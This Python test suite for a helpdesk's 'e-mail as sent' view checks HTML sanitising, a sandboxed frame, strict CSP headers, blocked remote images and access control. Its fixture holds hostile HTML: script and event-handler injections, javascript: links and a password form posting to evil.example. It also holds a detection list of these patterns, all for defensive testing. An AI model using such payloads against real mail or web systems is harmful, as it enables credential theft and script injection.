"""The e-mail as sent: an agent who works the ticket opens the HTML of a mail that became
a ticket or a reply, sanitised again from the stored bytes, in a sandboxed frame under
a strict policy; remote images stay blocked until the agent asks; nobody else finds it."""

import base64
import re
from email.message import EmailMessage
from email.utils import make_msgid
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from scotty.core.testing import Org, file_ticket
from scotty.mail.inbound.ingest import process
from scotty.mail.inbound.parsed import ParsedMail, Part
from scotty.mail.inbound.store import store
from scotty.mail.models import InboundMessage, InboundState, MailAddress, Source
from scotty.mail.selectors import with_image_addresses
from scotty.tickets.models import Ticket
from scotty.tickets.services import add_reply

pytestmark = pytest.mark.django_db

IT_HELP = "it-help@example.org"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg")</script></svg>'
TRACKER = "https://tracker.example/pixel.gif?who=rita"
# Everything a hostile sender would try, around words worth reading.
HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<style>body { background: url(https://evil.example/style.png) }</style>
<script>alert("head")</script>
<link rel="stylesheet" href="https://evil.example/sheet.css">
</head>
<body onload="alert('body')">
<h1>Printer <b>jams</b> again</h1>
<p style="background: url(https://evil.example/inline.png)">It stops on <em>page two</em>.</p>
<p><img src="{tracker}" alt="tracking pixel"></p>
<p><img src="cid:logo@mail.example.org" alt="our logo"></p>
<p><img src="cid:drawing@mail.example.org" alt="a drawing"></p>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('link')">click me</a>
<a href="https://intranet.example.org/printers">printer list</a>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<svg><script>alert("svg inline")</script><circle onload="alert('circle')"></circle></svg>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/flash.swf"></object>
</body></html>"""
FORBIDDEN = [
    "<script", "alert(", "onload", "onerror", "javascript:", "url(", "http-equiv",
    "<base href", "evil.example", "<form", "<input", "<svg", "<iframe", "<object", "<style",
    "<link", "<meta http",
]  # fmt: skip


@pytest.fixture
def addresses(org: Org) -> None:
    MailAddress.objects.create(address=IT_HELP, unit=org.it)


def html_mail(
    sender: str,
    subject: str = "Printer jams",
    html: str = HOSTILE_HTML,
    *,
    tracker: str = TRACKER,
    text: str = "Printer jams again. It stops on page two.",
    in_reply_to: str = "",
) -> bytes:
    """A text and an HTML part (multipart/alternative), the HTML with an inline PNG
    (cid:logo@...) and an inline SVG (cid:drawing@...) beside it (multipart/related)."""
    message = EmailMessage()
    message["From"] = sender
    message["To"] = IT_HELP
    message["Subject"] = subject
    message["Message-ID"] = make_msgid(domain="mail.example.org")
    if in_reply_to:
        message["In-Reply-To"] = in_reply_to
    message.set_content(text)
    message.add_alternative(html.replace("{tracker}", tracker), subtype="html")
    html_part = message.get_payload()[1]  # type: ignore[index]
    html_part.add_related(PNG, "image", "png", cid="<logo@mail.example.org>")
    html_part.add_related(SVG, "image", "svg+xml", cid="<drawing@mail.example.org>")
    return message.as_bytes()


def text_mail(sender: str, body: str, *, in_reply_to: str = "") -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = IT_HELP
    message["Subject"] = "Printer jams"
    message["Message-ID"] = make_msgid(domain="mail.example.org")
    if in_reply_to:
        message["In-Reply-To"] = in_reply_to
    message.set_content(body)
    return message.as_bytes()


def deliver(raw: bytes) -> InboundMessage:
    stored = store(raw, source=Source.PIPE, envelope_to=[IT_HELP])
    process(stored.id)  # (done already where the task ran at the commit)
    row = InboundMessage.objects.get(pk=stored.id)
    assert row.state == InboundState.PROCESSED, row.reason
    return row


def opened_by_mail(org: Org, **kwargs: Any) -> tuple[Ticket, InboundMessage]:
    row = deliver(html_mail(org.requester.email, **kwargs))
    assert row.outcome == "created" and row.ticket is not None
    return row.ticket, row


@pytest.fixture
def mailed(org: Org, addresses: None) -> tuple[Ticket, InboundMessage]:
    return opened_by_mail(org)


def urls(ticket: Ticket, row: InboundMessage) -> dict[str, str]:
    args = [ticket.reference, row.pk]
    return {
        "page": reverse("desk:mail_original", args=args),
        "document": reverse("desk:mail_original_html", args=args),
        "image": reverse("desk:mail_original_image", args=[*args, 0]),
    }


def policy(response: Any) -> dict[str, str]:
    """The response's Content-Security-Policy, by directive."""
    found: dict[str, str] = {}
    for directive in response["Content-Security-Policy"].split(";"):
        name, _, value = directive.strip().partition(" ")
        found[name] = value
    return found


def image_sources(document: str) -> list[str]:
    return re.findall(r'<img[^>]*\ssrc="([^"]*)"', document)


# --- The ticket page: a button where an entry came by e-mail.


def test_the_ticket_page_offers_the_mail_as_sent_for_the_description_and_mailed_replies(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, opening = mailed
    reply = deliver(text_mail(org.requester.email, "Still jamming.",
                              in_reply_to=f"<{opening.message_id}>"))  # fmt: skip
    assert reply.outcome == "replied" and reply.ticket == ticket
    add_reply(ticket, author=org.agent, body="Looking at it.")  # written in the desk
    body = client_for(org.agent).get(reverse("desk:ticket", args=[ticket.reference])).content
    page = body.decode()
    assert page.count("Show the e-mail as sent") == 2
    for row in (opening, reply):
        assert f'id="mail-original-{row.pk}" hx-preserve' in page
        assert f'href="{urls(ticket, row)["page"]}"' in page
    # The desk's own reply came by no e-mail: no button for it.
    assert page.index("Looking at it.") > page.rindex("Show the e-mail as sent")


def test_the_timeline_refresh_keeps_an_opened_frame(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, opening = mailed
    reply = deliver(text_mail(org.requester.email, "Any news?",
                              in_reply_to=f"<{opening.message_id}>"))  # fmt: skip
    url = reverse("desk:ticket", args=[ticket.reference]) + "?part=timeline"
    body = client_for(org.agent).get(url, HTTP_HX_REQUEST="true").content.decode()
    # The placeholder is kept (hx-preserve): htmx leaves the element on the page as it is.
    assert f'id="mail-original-{reply.pk}" hx-preserve' in body


def test_one_query_finds_every_original_of_the_page_and_none_without_mail(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any,
    django_assert_num_queries: Any,
) -> None:  # fmt: skip
    ticket, opening = mailed
    c = client_for(org.agent)
    url = reverse("desk:ticket", args=[ticket.reference])

    def inbound_queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            assert c.get(url).status_code == 200
        return len(captured), sum("mail_inboundmessage" in q["sql"] for q in captured)

    deliver(text_mail(org.requester.email, "Reply", in_reply_to=f"<{opening.message_id}>"))
    c.get(url)  # the session and the remembered permissions are warm
    first, mail_queries = inbound_queries()
    assert mail_queries == 1
    for i in range(5):
        deliver(text_mail(org.requester.email, f"Reply {i}", in_reply_to=f"<{opening.message_id}>"))
    c.get(url)  # (the first look after a change refreshes what the page remembers)
    with django_assert_num_queries(first):
        body = c.get(url).content.decode()
    assert body.count("Show the e-mail as sent") == 7
    # A ticket that came by no e-mail asks nothing of the mail store.
    plain = file_ticket(org.requester, org.it, "Mouse broken")
    c.get(reverse("desk:ticket", args=[plain.reference]))
    with CaptureQueriesContext(connection) as captured:
        c.get(reverse("desk:ticket", args=[plain.reference]))
    assert not any("mail_inboundmessage" in q["sql"] for q in captured)


def test_a_note_an_agent_mailed_has_its_original_too(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, opening = mailed
    note = deliver(text_mail(org.agent.email, "#note The fuser again.",
                             in_reply_to=f"<{opening.message_id}>"))  # fmt: skip
    assert note.reply is not None and note.reply.is_internal
    page = client_for(org.agent).get(reverse("desk:ticket", args=[ticket.reference]))
    assert f'id="mail-original-{note.pk}"' in page.content.decode()
    assert client_for(org.agent).get(urls(ticket, note)["document"]).status_code == 200


# --- The frame and what the page says about it.


def test_the_page_frames_the_mail_in_a_sandbox_and_says_remote_images_were_blocked(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    at = urls(ticket, row)
    c = client_for(org.agent)
    for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
        body = c.get(at["page"], **headers).content.decode()
        frame = re.search(r"<iframe[^>]*>", body)
        assert frame is not None
        assert f'src="{at["document"]}"' in frame.group()
        sandbox = re.search(r'sandbox="([^"]*)"', frame.group())
        assert sandbox is not None
        assert "allow-scripts" not in sandbox.group(1)
        assert "allow-same-origin" not in sandbox.group(1)
        assert "1 remote image was blocked." in body and "Show remote images" in body
        assert f'href="{at["page"]}?images=remote"' in body
        assert TRACKER not in body and "tracker.example" not in body
    fragment = c.get(at["page"], HTTP_HX_REQUEST="true").content.decode()
    opening_tag = f'<div class="mail-original shown" id="mail-original-{row.pk}">'
    assert fragment.lstrip().startswith(opening_tag)
    assert "Hide the e-mail as sent" in fragment


def test_remote_images_are_shown_only_when_the_agent_asks(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    at = urls(ticket, row)
    c = client_for(org.agent)
    blocked = c.get(at["document"])
    assert TRACKER not in blocked.content.decode()
    assert "tracker.example" not in blocked.content.decode()
    assert "tracking pixel" in blocked.content.decode()  # the image's words stay
    asked = c.get(at["page"] + "?images=remote", HTTP_HX_REQUEST="true").content.decode()
    assert f'src="{at["document"]}?images=remote"' in asked
    assert "Remote images are shown" in asked and "Block remote images" in asked
    shown = c.get(at["document"] + "?images=remote")
    sources = image_sources(shown.content.decode())
    assert TRACKER.replace("&", "&amp;") in sources
    assert policy(shown)["img-src"].split() == ["'self'", "data:", "https:", "http:"]
    # Hostile content stays out when remote images are in.
    assert not [word for word in FORBIDDEN if word in shown.content.decode()]


def test_hiding_the_frame_gives_the_button_back(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    at = urls(ticket, row)
    body = client_for(org.agent).get(at["page"] + "?shown=no", HTTP_HX_REQUEST="true")
    text = body.content.decode()
    assert "Show the e-mail as sent" in text and "<iframe" not in text
    assert "hx-preserve" not in text  # else htmx would keep the frame it replaces


def test_a_mail_without_html_says_so_and_frames_nothing(
    org: Org, addresses: None, client_for: Any
) -> None:
    row = deliver(text_mail(org.requester.email, "Just words."))
    assert row.ticket is not None
    body = client_for(org.agent).get(urls(row.ticket, row)["page"]).content.decode()
    assert "This e-mail has no HTML part" in body and "<iframe" not in body


# --- The document: sanitised, formatted, under its own strict policy.


def test_the_document_is_the_formatted_mail_without_anything_hostile(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    response = client_for(org.agent).get(urls(ticket, row)["document"])
    assert response.status_code == 200
    assert response["Content-Type"] == "text/html; charset=utf-8"
    document = response.content.decode()
    assert "<h1>Printer <b>jams</b> again</h1>" in document and "<em>page two</em>" in document
    assert 'href="https://intranet.example.org/printers"' in document
    assert not [word for word in FORBIDDEN if word in document], document
    assert '<base target="_blank">' in document  # links open outside the frame


def test_the_document_carries_a_strict_policy_of_its_own(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    response = client_for(org.agent).get(urls(ticket, row)["document"])
    found = policy(response)
    assert found["default-src"] == "'none'"
    assert found["img-src"].split() == ["'self'", "data:"]
    # No script or style from anywhere: default-src 'none' governs them.
    assert not {"script-src", "style-src", "font-src", "frame-src", "connect-src"} & set(found)
    assert "nonce-" not in response["Content-Security-Policy"]
    assert found["base-uri"] == "'none'" and found["form-action"] == "'none'"
    assert found["frame-ancestors"] == "'self'"  # the ticket page frames it, nobody else
    assert "sandbox" in found and "allow-scripts" not in found["sandbox"]
    assert "allow-same-origin" not in found["sandbox"]
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_the_desk_pages_keep_the_desks_policy(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    response = client_for(org.agent).get(urls(ticket, row)["page"])
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "DENY"


# --- Inline images: served from the stored message, images only.


def test_inline_images_point_to_scotty_and_are_served_as_images(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    c = client_for(org.agent)
    document = c.get(urls(ticket, row)["document"]).content.decode()
    sources = image_sources(document)
    assert not [s for s in sources if s.startswith("cid:")]
    logo = re.search(r'<img[^>]*\ssrc="([^"]*)"[^>]*alt="our logo"|<img[^>]*alt="our logo"[^>]*'
                     r'\ssrc="([^"]*)"', document)  # fmt: skip
    assert logo is not None
    src = logo.group(1) or logo.group(2)
    prefix = reverse("desk:mail_original_image", args=[ticket.reference, row.pk, 0])[:-2]
    assert src.startswith(prefix)
    image = c.get(src)
    assert image.status_code == 200 and image.content == PNG
    assert image["Content-Type"] == "image/png"
    assert image["X-Content-Type-Options"] == "nosniff"
    assert image["Content-Disposition"].startswith("inline")
    assert policy(image)["default-src"] == "'none'" and "sandbox" in policy(image)


def test_an_svg_part_is_never_served_nor_pointed_to(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    c = client_for(org.agent)
    document = c.get(urls(ticket, row)["document"]).content.decode()
    drawing = re.search(r"<img[^>]*alt=\"a drawing\"[^>]*>", document)
    assert drawing is not None and "src=" not in drawing.group()
    # The parts: the PNG (0), the SVG (1); nothing more.
    served = [c.get(reverse("desk:mail_original_image", args=[ticket.reference, row.pk, index]))
              for index in range(3)]  # fmt: skip
    assert [r.status_code for r in served] == [200, 404, 404]
    assert served[0]["Content-Type"] == "image/png" and b"<svg" not in served[0].content


def test_the_cid_rewrite_reads_tags_not_text() -> None:
    html = (
        '<p>a src="cid:logo" in words</p><img alt="a &gt; b &quot;c&quot; > d" src="cid:logo">'
        '<img src="cid:%3Clogo%3E"><img src="cid:unknown" alt="gone"><a title="<img src=">x</a>'
    )
    mail = ParsedMail(
        message_id="", subject="", sender=None, reply_to=(), to=(), cc=(),  # type: ignore[arg-type]
        in_reply_to=(), references=(), text="", quoted="", html=html,
        parts=(Part("logo.png", "image/png", PNG, "logo", True),),
    )  # fmt: skip
    rewritten = with_image_addresses(mail, lambda index: f"/image/{index}/")
    assert '<p>a src="cid:logo" in words</p>' in rewritten
    assert '> d" src="/image/0/">' in rewritten and '<img src="/image/0/">' in rewritten
    assert '<img alt="gone">' in rewritten and 'title="<img src=">x</a>' in rewritten


# --- Who may: agents who work the ticket; nobody else finds the pages.


@pytest.mark.parametrize("url", ["page", "document", "image"])
@pytest.mark.parametrize("who", ["requester", "hr_agent", "other_requester"])
def test_only_agents_of_the_ticket_find_the_mail(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any, who: str, url: str
) -> None:
    ticket, row = mailed
    at = urls(ticket, row)
    assert client_for(org.agent).get(at[url]).status_code == 200
    assert client_for(org.admin).get(at[url]).status_code == 200
    # Rita filed it (and is its requester): her side of it is the portal's.
    assert client_for(getattr(org, who)).get(at[url]).status_code == 404
    assert client_for(getattr(org, who)).get(at[url] + "?images=remote").status_code == 404


@pytest.mark.parametrize("url", ["page", "document", "image"])
def test_anonymous_visitors_are_sent_to_sign_in(
    mailed: tuple[Ticket, InboundMessage], url: str
) -> None:
    ticket, row = mailed
    response = Client().get(urls(ticket, row)[url])
    assert response.status_code == 302 and response["Location"].startswith("/sign-in/")


@pytest.mark.parametrize("url", ["page", "document", "image"])
def test_a_mail_of_another_ticket_is_not_found_under_this_one(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any, url: str
) -> None:
    ticket, row = mailed
    other, other_row = opened_by_mail(org, subject="Monitor flickers")
    c = client_for(org.agent)  # works both tickets
    crossed = {name: address.replace(ticket.reference, other.reference)
               for name, address in urls(ticket, row).items()}  # fmt: skip
    assert c.get(crossed[url]).status_code == 404
    assert c.get(urls(other, other_row)[url]).status_code == 200


def test_a_mail_that_became_no_entry_of_the_ticket_is_not_found(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, _ = mailed
    # A quarantined message that names the ticket (as a bounce would) is no entry of it.
    stray = InboundMessage.objects.create(
        raw=html_mail("stranger@elsewhere.example"), size=1, sha256="0" * 64,
        dedupe_key="sha:stray", source=Source.PIPE, state=InboundState.QUARANTINED,
        outcome="unknown_sender", ticket=ticket,
    )  # fmt: skip
    bounce = InboundMessage.objects.create(
        raw=html_mail("mailer-daemon@mx.example.org"), size=1, sha256="1" * 64,
        dedupe_key="sha:bounce", source=Source.PIPE, state=InboundState.PROCESSED,
        outcome="bounce", ticket=ticket,
    )  # fmt: skip
    c = client_for(org.agent)
    for other in (stray, bounce):
        assert c.get(urls(ticket, other)["document"]).status_code == 404
    missing = reverse("desk:mail_original_html", args=[ticket.reference, 99999])
    assert c.get(missing).status_code == 404
    page = c.get(reverse("desk:ticket", args=[ticket.reference])).content.decode()
    assert page.count("Show the e-mail as sent") == 1


def test_only_get_is_answered(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    assert client_for(org.agent).post(urls(ticket, row)["document"]).status_code == 405


# --- The frame's image keys: its opaque origin sends no cookie with the image requests.


def keyed_image(ticket: Ticket, row: InboundMessage, person: Any, index: int = 0) -> str:
    from scotty.desk.views.mail_original import image_key

    url = reverse("desk:mail_original_image", args=[ticket.reference, row.pk, index])
    return f"{url}?key={image_key(person, row.pk, index)}"


def test_the_frames_image_key_fetches_that_image_without_a_session(
    org: Org, mailed: tuple[Ticket, InboundMessage], client_for: Any
) -> None:
    ticket, row = mailed
    document = client_for(org.agent).get(urls(ticket, row)["document"]).content.decode()
    keyed = [s for s in image_sources(document) if "/images/" in s]
    assert keyed and all("?key=" in s for s in keyed)
    response = Client().get(keyed[0].replace("&amp;", "&"))  # the frame: no cookie
    assert response.status_code == 200 and response.content == PNG
    assert response["X-Content-Type-Options"] == "nosniff"
    # That key is for that image only; the document is not reachable with it.
    other = keyed[0].replace("/images/0/", "/images/1/")
    assert Client().get(other).status_code == 302
    key = keyed[0].split("?", 1)[1]
    assert Client().get(f"{urls(ticket, row)['document']}?{key}").status_code == 302


def test_an_image_key_is_checked_as_its_agent_would_be(
    org: Org, mailed: tuple[Ticket, InboundMessage], monkeypatch: pytest.MonkeyPatch
) -> None:
    from scotty.desk.views import mail_original

    ticket, row = mailed
    assert Client().get(keyed_image(ticket, row, org.agent)).status_code == 200
    # An agent of another unit, or the requester: the ticket is not theirs to work.
    assert Client().get(keyed_image(ticket, row, org.hr_agent)).status_code == 404
    assert Client().get(keyed_image(ticket, row, org.requester)).status_code == 404
    # A forged or mangled key, a stale one, one from before a new password: sign in.
    assert Client().get(keyed_image(ticket, row, org.agent) + "x").status_code == 302
    stale = keyed_image(ticket, row, org.agent)
    monkeypatch.setattr(mail_original, "IMAGE_KEY_SECONDS", -1)
    assert Client().get(stale).status_code == 302
    monkeypatch.undo()
    org.agent.set_password("a brand new password")
    org.agent.save()
    assert Client().get(stale).status_code == 302
    # An agent deactivated meanwhile.
    fresh = keyed_image(ticket, row, org.agent2)
    org.agent2.is_active = False
    org.agent2.save()
    assert Client().get(fresh).status_code == 302
